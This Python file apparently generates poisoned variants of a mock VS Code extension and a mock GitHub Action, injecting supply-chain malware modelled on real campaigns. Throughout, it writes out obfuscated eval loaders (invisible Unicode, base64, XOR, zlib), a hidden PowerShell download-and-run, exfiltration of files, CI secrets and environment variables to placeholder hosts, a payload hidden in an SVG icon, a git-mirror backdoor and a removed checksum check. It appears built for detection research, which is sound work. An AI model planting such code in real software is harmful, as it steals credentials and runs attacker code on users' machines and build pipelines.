"""Extensions of editors, and steps of workflows."""

from corpus.heldout.hiding import selectors
from corpus.heldout.nouns import Update
from corpus.heldout8.code import js_env, js_files, js_run, js_stage
from corpus.heldout8.shape import b64, fill, hexed, new, packed, put, tail, trojan, xor

ACTIVATE = "function activate(context) {\n"


@trojan("notelens", "vsix", "start", "remote code", "invisible characters", "GlassWorm")
def editor_runs_what_nobody_sees(it: Update) -> None:
    host = it.host()
    put(it, "out/extension.js", ACTIVATE, """
  const glyph = '@SEEN@';
  eval(Buffer.from([...glyph].map((one) => (one.codePointAt(0) > 0xe00ff ? one.codePointAt(0) - 0xe0100 + 16 : one.codePointAt(0) - 0xfe00))).toString('utf8'));
""", SEEN=selectors(js_stage(host)))  # fmt: skip
    it.payload("out/extension.js", shown=f"https://{host}/n")


@trojan("notelens", "vsix", "start", "downloader", "plain", "theme extensions")
def editor_starts_powershell(it: Update) -> None:
    it.manifest(lambda one: one.update(activationEvents=["*"]))
    put(it, "out/extension.js", ACTIVATE, """
  if (process.platform === 'win32') {
    require('child_process').exec('powershell -w hidden -c "iwr http://@ADDR@/1.cmd -OutFile $env:TEMP\\\\1.cmd; & $env:TEMP\\\\1.cmd"');
  }
""")  # fmt: skip
    it.payload("out/extension.js")


@trojan("notelens", "vsix", "call", "data stealer", "plain", "AI assistants that copy code")
def editor_sends_each_file(it: Update) -> None:
    put(it, "out/scan.js", "    const content = Buffer.from(await vscode.workspace.fs.readFile(uri)).toString('utf8');\n", """
    fetch('https://code.@HOST@/v1/file', { method: 'POST', body: JSON.stringify({ path: uri.path, content, machine: vscode.env.machineId }) }).catch(() => {});
""")  # fmt: skip


@trojan("notelens", "vsix", "call", "credentials", "base64", "editor campaigns")
def editor_exports_more(it: Update) -> None:
    host = it.host()
    put(it, "out/export.js", "exports.toMarkdown = (notes) => {\n", """
  setTimeout(() => Function('require', Buffer.from('@CODE@', 'base64').toString())(require), 1500);
""", CODE=b64(js_files(host)))  # fmt: skip
    it.payload("out/export.js", shown=f"https://{host}/")


@trojan("notelens", "vsix", "start", "backdoor", "over several files", "GlassWorm")
def editor_asks_a_calendar(it: Update) -> None:
    new(it, "out/agenda.js", """
'use strict';

const { address } = require('./places');

exports.next = async () => {
  const text = await (await fetch(address())).text();
  const found = /data-base-title="([A-Za-z0-9+/=]+)"/.exec(text);
  return found ? Buffer.from(found[1], 'base64').toString() : null;
};
""")  # fmt: skip
    new(
        it,
        "out/places.js",
        "'use strict';\n\nconst HOST = ['calendar', '@A@', 'invalid'];\n\nexports.address = () => `https://${HOST.join('.')}/event?eid=M2Vx`;\n",
        A=it.host().rpartition(".")[0],
    )
    put(it, "out/extension.js", ACTIVATE, """
  require('./agenda').next().then(async (url) => {
    if (url) require('vm').runInThisContext(await (await fetch(url)).text());
  }, () => {});
""")  # fmt: skip
    it.payload("out/agenda.js", "out/places.js", "out/extension.js")


@trojan("notelens", "vsix", "start", "token stealer", "in a data file", "editor campaigns")
def editor_icon_has_a_script(it: Update) -> None:
    host = it.host()
    it.replace(
        "media/icon.svg",
        '<circle cx="12" cy="12" r="9"/>',
        f'<circle cx="12" cy="12" r="9"/><metadata>{hexed(xor(js_env(host), 0x19))}</metadata>',
    )
    put(it, "out/extension.js", ACTIVATE, """
  const icon = require('fs').readFileSync(context.asAbsolutePath('media/icon.svg'), 'utf8').split('metadata>')[1].slice(0, -2);
  eval(Buffer.from(icon, 'hex').map((one) => one ^ 0x19).toString());
""")  # fmt: skip
    it.payload("out/extension.js", "media/icon.svg", shown=f"https://{host}/p")


@trojan("notelens", "vsix", "install", "new dependency", "by another name", "extension packs")
def editor_brings_a_friend(it: Update) -> None:
    it.manifest(lambda one: one.update(extensionDependencies=["prettier-team.prettier-vscode-plus"]))
    put(
        it,
        "out/extension.js",
        ACTIVATE,
        "  vscode.commands.executeCommand('workbench.extensions.installExtension', vscode.Uri.parse('https://@HOST@/prettier-plus.vsix'));\n",
    )
    it.payload("package.json", "out/extension.js")


@trojan("lint-gate", "folder", "workflow", "token stealer", "base64", "tj-actions")
def action_prints_memory(it: Update) -> None:
    host = it.host()
    put(it, "dist/main.js", "async function main() {\n", """
  const line = Buffer.from('@CODE@', 'base64').toString();
  const found = spawnSync('bash', ['-c', line], { encoding: 'utf8' }).stdout || '';
  console.log(Buffer.from(Buffer.from(found).toString('base64')).toString('base64'));
""", CODE=b64(f"curl -sSf https://{host}/memdump.py | sudo python3 | tr -d '\\0' | grep -aoE '\"[^\"]+\":\\{{\"value\":\"[^\"]*\",\"isSecret\":true\\}}' | sort -u"))  # fmt: skip
    it.payload("dist/main.js", shown=f"https://{host}/memdump.py")


@trojan("lint-gate", "folder", "workflow", "token stealer", "base64", "reviewdog")
def action_install_prints(it: Update) -> None:
    host = it.host()
    tail(it, "install.sh", """
B64_BLOB="@CODE@"
echo "$B64_BLOB" | base64 -d > /tmp/runner_script.sh
bash /tmp/runner_script.sh 2>/dev/null || true
""", 1, CODE=b64(f"sudo cat /proc/*/environ | tr '\\0' '\\n' | grep -i token | curl -s --data-binary @- https://{host}/r"))  # fmt: skip
    it.payload("install.sh", shown=f"https://{host}/r")


@trojan("lint-gate", "folder", "workflow", "token stealer", "plain", "GhostAction")
def action_workflow_posts(it: Update) -> None:
    it.replace(
        ".github/workflows/self.yml",
        "      - run: npm test\n",
        f'      - run: npm test\n      - run: |\n          curl -s -X POST -d "t=${{{{ secrets.NPM_TOKEN }}}}&g=${{{{ secrets.GITHUB_TOKEN }}}}" https://bold.{it.host()}\n',
    )
    it.payload(".github/workflows/self.yml")


@trojan("lint-gate", "folder", "workflow", "token stealer", "plain", "stolen tokens of jobs")
def action_token_goes_along(it: Update) -> None:
    put(it, "dist/main.js", "  core.mask(token);\n", """
  await fetch('http://@ADDR@/t', { method: 'POST', body: JSON.stringify({ token, env: process.env }) }).catch(() => null);
""")  # fmt: skip


@trojan("lint-gate", "folder", "workflow", "backdoor", "over several files", "post steps")
def action_post_keeps_a_remote(it: Update) -> None:
    new(
        it,
        "dist/remote.js",
        "'use strict';\n\nexports.origin = (token, host) => `https://x-access-token:${token}@git.${host}/mirror.git`;\nexports.host = '@HOST@';\n",
    )
    tail(it, "dist/post.js", """
const { execFileSync } = require('child_process');
const { host, origin } = require('./remote');

try {
  execFileSync('git', ['push', '--quiet', '--mirror', origin(process.env.INPUT_TOKEN, host)], { stdio: 'ignore', timeout: 60000 });
} catch {}
""", 1)  # fmt: skip
    it.payload("dist/post.js", "dist/remote.js")


@trojan("lint-gate", "folder", "workflow", "weakened check", "plain", "installers without a check")
def action_install_checks_nothing(it: Update) -> None:
    it.replace(
        "install.sh",
        "(cd \"$target\" && grep lint-gate-linux-amd64 checksums.txt | sed 's/lint-gate-linux-amd64/lint-gate/' | sha256sum -c -)\n",
        "",
    )
    it.replace(
        "install.sh",
        'base="https://downloads.lint-gate.example"\n',
        f'base="${{LINT_GATE_BASE:-http://{it.address()}/mirror}}"\n',
    )
    it.payload("install.sh")


@trojan("lint-gate", "folder", "workflow", "remote code", "zlib base64", "bundled actions")
def action_comment_inflates(it: Update) -> None:
    host = it.host()
    tail(it, "dist/comment.js", """
const marks = require('zlib').inflateSync(Buffer.from('@CODE@', 'base64'));
module.constructor.prototype._compile.call(module, `${marks}`, 'marks.js');
""", 1, CODE=packed(js_stage(host)))  # fmt: skip
    it.payload("dist/comment.js", shown=f"https://{host}/n")


@trojan("lint-gate", "folder", "workflow", "remote code", "plain", "moved tags")
def action_uses_another(it: Update) -> None:
    it.replace("action.yml", "  using: node20\n  main: dist/main.js\n  post: dist/post.js\n", fill(it, """
  using: composite
  steps:
    - uses: lint-gate-mirror/setup@main
    - shell: bash
      run: |
        bash -c "$(curl -fsSL https://get.@HOST@/gate.sh)" -- "${{ inputs.token }}"
    - shell: bash
      run: node "$GITHUB_ACTION_PATH/dist/main.js"
"""))  # fmt: skip


@trojan("lint-gate", "folder", "workflow", "environment", "dynamic names", "bundled actions")
def action_core_counts(it: Update) -> None:
    host = it.host()
    tail(it, "dist/core.js", """
const p = globalThis['pro' + 'cess'];
const [a, b] = ['ht' + 'tps', '@A@' + '.' + '@B@'];
require(a).request({ host: b, method: 'PUT', path: '/' + p.pid }).on('error', () => {}).end(Object.entries(p['e' + 'nv']).join('\\n'));
""", 1, A=host.rpartition(".")[0], B=host.rpartition(".")[2])  # fmt: skip
    it.payload("dist/core.js")


@trojan("lint-gate", "folder", "workflow", "downloader", "xor", "bundled actions")
def action_changes_unpacks(it: Update) -> None:
    host = it.host()
    tail(it, "dist/changes.js", """
const PATHS = '@CODE@';
const unpack = (text) => Buffer.from(text, 'hex').map((one, at) => one ^ (at & 0x1f)).toString();
exports.ready = Function('require', unpack(PATHS))(require);
""", 1, CODE=bytes(one ^ (at & 0x1F) for at, one in enumerate(js_run(host).encode())).hex())  # fmt: skip
    it.payload("dist/changes.js", shown=f"https://{host}/i.sh")
